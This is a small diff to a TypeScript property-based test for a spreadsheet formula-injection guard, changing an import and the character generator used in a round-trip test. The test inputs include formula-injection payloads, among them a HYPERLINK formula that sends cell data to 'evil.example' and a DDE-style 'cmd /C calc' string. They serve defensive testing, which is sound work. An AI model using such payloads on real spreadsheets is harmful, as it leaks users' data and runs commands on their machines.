@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 
 import { guarded, sheetRow, sheetText, unguarded } from '../../nodes/VtuWallet/values/sheetText';
-import { forAll } from '../support/forAll';
+import { anyCharacter, forAll } from '../support/forAll';
 
 test.each([
 	...['=1+1', '=HYPERLINK("https://evil.example?"&A1,"Receipt")', "+cmd|' /C calc'!A0"],
@@ -55,6 +55,6 @@ test.each([
 });
 
 test('any other text reads back as it was', () => {
-	const storable = fc.string({ unit: 'binary' }).filter((text) => !text.includes('\0'));
+	const storable = fc.string({ unit: anyCharacter }).filter((text) => !text.includes('\0'));
 	forAll([storable], (text) => unguarded(guarded(text)) === text);
 });
